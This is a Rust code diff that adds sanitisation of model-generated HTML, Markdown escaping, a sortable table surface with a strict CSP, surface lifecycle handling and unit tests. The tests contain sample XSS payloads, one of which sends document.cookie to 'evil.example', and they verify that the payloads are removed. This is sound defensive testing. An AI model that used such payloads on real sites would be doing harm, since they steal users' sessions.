@@ -6,11 +6,15 @@
 //! - Content Security Policy (CSP) headers on all HTML surfaces
 //! - Minimal external resource loading
 //! - XSS protection via HTML escaping
+//! - Sanitization of model-generated HTML
 
 #![allow(dead_code)]
 
-use anyhow::Result;
+use anyhow::{anyhow, Result};
+use pulldown_cmark::{html, Event, Options, Parser};
 use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
+use std::sync::{Arc, RwLock};
 use uuid::Uuid;
 
 use crate::ai::UiSpec;
@@ -22,6 +26,9 @@ const CSP_STRICT: &str = "default-src 'none'; style-src 'unsafe-inline'; img-src
 /// Content Security Policy for surfaces with CodeMirror CDN
 const CSP_CODEMIRROR: &str = "default-src 'none'; script-src https://cdnjs.cloudflare.com 'unsafe-inline'; style-src 'unsafe-inline' https://cdnjs.cloudflare.com; img-src 'self' data:; base-uri 'none'; form-action 'none'; frame-ancestors 'none';";
 
+/// Content Security Policy for table surfaces (inline sort script only, no external resources)
+const CSP_TABLE: &str = "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src 'self' data:; base-uri 'none'; form-action 'none'; frame-ancestors 'none';";
+
 /// Factory for creating UI surfaces
 #[derive(Clone)]
 pub struct UiFactory {
@@ -36,6 +43,9 @@ impl UiFactory {
     }
 
     /// Create a surface from a UI specification
+    ///
+    /// The spec comes from the model, so HTML content is sanitized and
+    /// wrapped in a document carrying the strict CSP.
     pub fn create_surface(&self, spec: &UiSpec) -> Result<Surface> {
         let id = Uuid::new_v4().to_string();
 
@@ -46,13 +56,18 @@ impl UiFactory {
             _ => SurfaceType::Html,
         };
 
+        let content = match surface_type {
+            SurfaceType::Html => sanitized_document(&spec.content),
+            _ => spec.content.clone(),
+        };
+
         Ok(Surface {
             id,
             title: spec.title.clone(),
             surface_type,
             width: spec.width,
             height: spec.height,
-            content: spec.content.clone(),
+            content,
             interactive: spec.interactive,
             state: SurfaceState::Created,
         })
@@ -101,6 +116,187 @@ impl UiFactory {
         }
     }
 
+    /// Create a surface rendering Markdown (e.g. an AI response) as HTML
+    ///
+    /// Raw HTML in the source is escaped rather than passed through, so the
+    /// surface keeps the strict CSP guarantees of `text_surface`.
+    pub fn markdown_surface(&self, title: &str, markdown: &str) -> Surface {
+        Surface {
+            id: Uuid::new_v4().to_string(),
+            title: title.to_string(),
+            surface_type: SurfaceType::Html,
+            width: 700,
+            height: 500,
+            content: format!(
+                r#"<!DOCTYPE html>
+<html>
+<head>
+    <meta charset="utf-8">
+    <meta http-equiv="Content-Security-Policy" content="{}">
+    <meta name="referrer" content="no-referrer">
+    <style>
+        body {{
+            font-family: system-ui, sans-serif;
+            padding: 20px;
+            background: #1a1a2e;
+            color: #eee;
+            line-height: 1.6;
+        }}
+        pre {{
+            background: #16213e;
+            padding: 15px;
+            border-radius: 8px;
+            overflow-x: auto;
+        }}
+        code {{
+            font-family: monospace;
+            background: #16213e;
+            padding: 2px 4px;
+            border-radius: 4px;
+        }}
+        pre code {{
+            padding: 0;
+        }}
+        a {{
+            color: #7fb3ff;
+        }}
+        blockquote {{
+            margin-left: 0;
+            padding-left: 15px;
+            border-left: 3px solid #0f3460;
+        }}
+        table {{
+            border-collapse: collapse;
+        }}
+        th, td {{
+            border: 1px solid #0f3460;
+            padding: 6px 10px;
+        }}
+    </style>
+</head>
+<body>
+{}
+</body>
+</html>"#,
+                CSP_STRICT,
+                render_markdown(markdown)
+            ),
+            interactive: false,
+            state: SurfaceState::Created,
+        }
+    }
+
+    /// Create a data-table surface with click-to-sort columns
+    pub fn table_surface(
+        &self,
+        title: &str,
+        headers: Vec<String>,
+        rows: Vec<Vec<String>>,
+    ) -> Surface {
+        let header_cells: String = headers
+            .iter()
+            .enumerate()
+            .map(|(i, header)| {
+                format!(
+                    r#"<th data-col="{}">{}</th>"#,
+                    i,
+                    html_escape::encode_text(header)
+                )
+            })
+            .collect();
+
+        let body_rows: String = rows
+            .iter()
+            .map(|row| {
+                let cells: String = row
+                    .iter()
+                    .map(|cell| format!("<td>{}</td>", html_escape::encode_text(cell)))
+                    .collect();
+                format!("<tr>{}</tr>", cells)
+            })
+            .collect::<Vec<_>>()
+            .join("\n");
+
+        Surface {
+            id: Uuid::new_v4().to_string(),
+            title: title.to_string(),
+            surface_type: SurfaceType::Html,
+            width: 900,
+            height: 600,
+            content: format!(
+                r#"<!DOCTYPE html>
+<html>
+<head>
+    <meta charset="utf-8">
+    <meta http-equiv="Content-Security-Policy" content="{}">
+    <meta name="referrer" content="no-referrer">
+    <style>
+        body {{
+            font-family: system-ui, sans-serif;
+            padding: 20px;
+            background: #1a1a2e;
+            color: #eee;
+        }}
+        table {{
+            width: 100%;
+            border-collapse: collapse;
+            background: #16213e;
+            border-radius: 8px;
+        }}
+        th, td {{
+            padding: 8px 12px;
+            text-align: left;
+            border-bottom: 1px solid #0f3460;
+        }}
+        th {{
+            cursor: pointer;
+            user-select: none;
+            background: #0f3460;
+        }}
+        th[data-order="asc"]::after {{ content: " \25B2"; }}
+        th[data-order="desc"]::after {{ content: " \25BC"; }}
+        tbody tr:hover {{
+            background: #1f2b4d;
+        }}
+    </style>
+</head>
+<body>
+    <table>
+        <thead><tr>{}</tr></thead>
+        <tbody>
+{}
+        </tbody>
+    </table>
+    <script>
+        document.querySelectorAll('th').forEach(function (th) {{
+            th.addEventListener('click', function () {{
+                var col = Number(th.dataset.col);
+                var asc = th.dataset.order !== 'asc';
+                document.querySelectorAll('th').forEach(function (other) {{
+                    delete other.dataset.order;
+                }});
+                th.dataset.order = asc ? 'asc' : 'desc';
+                var tbody = document.querySelector('tbody');
+                var rows = Array.from(tbody.rows);
+                rows.sort(function (a, b) {{
+                    var x = a.cells[col] ? a.cells[col].textContent : '';
+                    var y = b.cells[col] ? b.cells[col].textContent : '';
+                    var cmp = x.localeCompare(y, undefined, {{ numeric: true }});
+                    return asc ? cmp : -cmp;
+                }});
+                rows.forEach(function (row) {{ tbody.appendChild(row); }});
+            }});
+        }});
+    </script>
+</body>
+</html>"#,
+                CSP_TABLE, header_cells, body_rows
+            ),
+            interactive: true,
+            state: SurfaceState::Created,
+        }
+    }
+
     /// Create a code editor surface
     pub fn code_editor_surface(&self, title: &str, code: &str, language: &str) -> Surface {
         Surface {
@@ -222,6 +418,53 @@ impl UiFactory {
     }
 }
 
+/// Sanitize untrusted HTML and wrap it in a CSP-strict document
+fn sanitized_document(html: &str) -> String {
+    let body = ammonia::Builder::default()
+        .add_generic_attributes(&["class", "style"])
+        .url_schemes(["https", "data"].into_iter().collect())
+        .clean(html)
+        .to_string();
+
+    format!(
+        r#"<!DOCTYPE html>
+<html>
+<head>
+    <meta charset="utf-8">
+    <meta http-equiv="Content-Security-Policy" content="{}">
+    <meta name="referrer" content="no-referrer">
+    <style>
+        body {{
+            font-family: system-ui, sans-serif;
+            padding: 20px;
+            background: #1a1a2e;
+            color: #eee;
+            line-height: 1.6;
+        }}
+    </style>
+</head>
+<body>
+{}
+</body>
+</html>"#,
+        CSP_STRICT, body
+    )
+}
+
+/// Convert Markdown to HTML, escaping any raw HTML in the source
+fn render_markdown(markdown: &str) -> String {
+    let options =
+        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    let parser = Parser::new_ext(markdown, options).map(|event| match event {
+        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
+        other => other,
+    });
+
+    let mut output = String::new();
+    html::push_html(&mut output, parser);
+    output
+}
+
 /// A UI surface that can be displayed
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct Surface {
@@ -235,6 +478,95 @@ pub struct Surface {
     pub state: SurfaceState,
 }
 
+impl Surface {
+    /// Show the surface
+    pub fn activate(&mut self) -> Result<()> {
+        self.transition(SurfaceState::Active)
+    }
+
+    /// Hide the surface without destroying it
+    pub fn hide(&mut self) -> Result<()> {
+        self.transition(SurfaceState::Hidden)
+    }
+
+    /// Tear the surface down; no further transitions are allowed
+    pub fn destroy(&mut self) -> Result<()> {
+        self.transition(SurfaceState::Destroyed)
+    }
+
+    fn transition(&mut self, to: SurfaceState) -> Result<()> {
+        if self.state == SurfaceState::Destroyed {
+            return Err(anyhow!("Surface {} has been destroyed", self.id));
+        }
+        self.state = to;
+        Ok(())
+    }
+}
+
+/// Lifecycle changes a client can request for a surface
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq)]
+#[serde(rename_all = "lowercase")]
+pub enum SurfaceAction {
+    Activate,
+    Hide,
+    Destroy,
+}
+
+/// Surfaces that are currently alive, so a compositor can enumerate them
+#[derive(Clone, Default)]
+pub struct SurfaceRegistry {
+    surfaces: Arc<RwLock<HashMap<String, Surface>>>,
+}
+
+impl SurfaceRegistry {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Track a newly created surface
+    pub fn register(&self, surface: Surface) {
+        self.write().insert(surface.id.clone(), surface);
+    }
+
+    /// Live surfaces, sorted by id so the order is stable
+    pub fn list(&self) -> Vec<Surface> {
+        let mut surfaces: Vec<Surface> = self
+            .surfaces
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .values()
+            .cloned()
+            .collect();
+        surfaces.sort_by(|a, b| a.id.cmp(&b.id));
+        surfaces
+    }
+
+    /// Apply a lifecycle action and return the updated surface. Destroyed
+    /// surfaces are dropped from the registry.
+    pub fn apply(&self, id: &str, action: SurfaceAction) -> Result<Surface> {
+        let mut surfaces = self.write();
+        let surface = surfaces
+            .get_mut(id)
+            .ok_or_else(|| anyhow!("Unknown surface: {}", id))?;
+
+        match action {
+            SurfaceAction::Activate => surface.activate()?,
+            SurfaceAction::Hide => surface.hide()?,
+            SurfaceAction::Destroy => surface.destroy()?,
+        }
+
+        let updated = surface.clone();
+        if updated.state == SurfaceState::Destroyed {
+            surfaces.remove(id);
+        }
+        Ok(updated)
+    }
+
+    fn write(&self) -> std::sync::RwLockWriteGuard<'_, HashMap<String, Surface>> {
+        self.surfaces.write().unwrap_or_else(|e| e.into_inner())
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -261,6 +593,119 @@ mod tests {
         assert!(surface.content.contains("python"));
         assert!(surface.interactive);
     }
+
+    fn html_spec(content: &str) -> UiSpec {
+        UiSpec {
+            ui_type: "html".to_string(),
+            title: "Generated".to_string(),
+            width: 400,
+            height: 300,
+            content: content.to_string(),
+            interactive: false,
+            data_bindings: Vec::new(),
+        }
+    }
+
+    #[test]
+    fn test_create_surface_strips_script() {
+        let config = MycelConfig::default();
+        let factory = UiFactory::new(&config).unwrap();
+        let spec = html_spec(
+            "<h1>Hi</h1><script>fetch('https://evil.example/?c=' + document.cookie)</script>",
+        );
+        let surface = factory.create_surface(&spec).unwrap();
+
+        assert!(surface.content.contains("<h1>Hi</h1>"));
+        assert!(!surface.content.contains("<script"));
+        assert!(!surface.content.contains("evil.example"));
+        assert!(surface.content.contains(CSP_STRICT));
+    }
+
+    #[test]
+    fn test_create_surface_strips_event_handlers() {
+        let config = MycelConfig::default();
+        let factory = UiFactory::new(&config).unwrap();
+        let spec = html_spec(
+            r#"<img src="https://x.example/a.png" onerror="alert(1)"><a href="javascript:alert(1)">x</a>"#,
+        );
+        let surface = factory.create_surface(&spec).unwrap();
+
+        assert!(!surface.content.contains("onerror"));
+        assert!(!surface.content.contains("javascript:"));
+        assert!(surface.content.contains(CSP_STRICT));
+    }
+
+    #[test]
+    fn test_table_surface_escapes_cells() {
+        let config = MycelConfig::default();
+        let factory = UiFactory::new(&config).unwrap();
+        let surface = factory.table_surface(
+            "Packages",
+            vec!["Name".to_string(), "Version".to_string()],
+            vec![
+                vec!["firefox".to_string(), "120.0".to_string()],
+                vec!["<script>x</script>".to_string(), "1.0".to_string()],
+            ],
+        );
+
+        assert!(surface.content.contains("<th data-col=\"0\">Name</th>"));
+        assert!(surface.content.contains("<td>firefox</td>"));
+        assert!(surface.content.contains("&lt;script&gt;x&lt;/script&gt;"));
+        assert!(!surface.content.contains("<script>x"));
+        assert!(surface.content.contains(CSP_TABLE));
+    }
+
+    #[test]
+    fn test_markdown_surface() {
+        let config = MycelConfig::default();
+        let factory = UiFactory::new(&config).unwrap();
+        let surface = factory.markdown_surface(
+            "Answer",
+            "# Title\n\n- one\n- two\n\n```rust\nfn main() {}\n```\n\n<script>alert(1)</script>\n\nText with <img src=x onerror=alert(1)>",
+        );
+
+        assert!(surface.content.contains("<h1>Title</h1>"));
+        assert!(surface.content.contains("<li>one</li>"));
+        assert!(surface.content.contains("fn main() {}"));
+        assert!(surface.content.contains(CSP_STRICT));
+        assert!(!surface.content.contains("<script>"));
+        assert!(!surface.content.contains("<img"));
+        assert!(surface.content.contains("&lt;script&gt;"));
+    }
+
+    #[test]
+    fn test_surface_lifecycle() {
+        let factory = UiFactory::new(&MycelConfig::default()).unwrap();
+        let mut surface = factory.text_surface("Status", "ok");
+        assert_eq!(surface.state, SurfaceState::Created);
+
+        surface.activate().unwrap();
+        assert_eq!(surface.state, SurfaceState::Active);
+        surface.hide().unwrap();
+        assert_eq!(surface.state, SurfaceState::Hidden);
+        surface.destroy().unwrap();
+        assert!(surface.activate().is_err());
+    }
+
+    #[test]
+    fn test_surface_registry() {
+        let factory = UiFactory::new(&MycelConfig::default()).unwrap();
+        let registry = SurfaceRegistry::new();
+        let first = factory.text_surface("One", "1");
+        let second = factory.text_surface("Two", "2");
+        registry.register(first.clone());
+        registry.register(second.clone());
+        assert_eq!(registry.list().len(), 2);
+
+        let shown = registry.apply(&first.id, SurfaceAction::Activate).unwrap();
+        assert_eq!(shown.state, SurfaceState::Active);
+
+        registry.apply(&second.id, SurfaceAction::Destroy).unwrap();
+        let remaining = registry.list();
+        assert_eq!(remaining.len(), 1);
+        assert_eq!(remaining[0].id, first.id);
+        assert!(registry.apply(&second.id, SurfaceAction::Hide).is_err());
+    }
 }
 
 /// Types of surfaces
@@ -275,7 +720,7 @@ pub enum SurfaceType {
 }
 
 /// Surface lifecycle state
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq)]
 pub enum SurfaceState {
     Created,
     Rendering,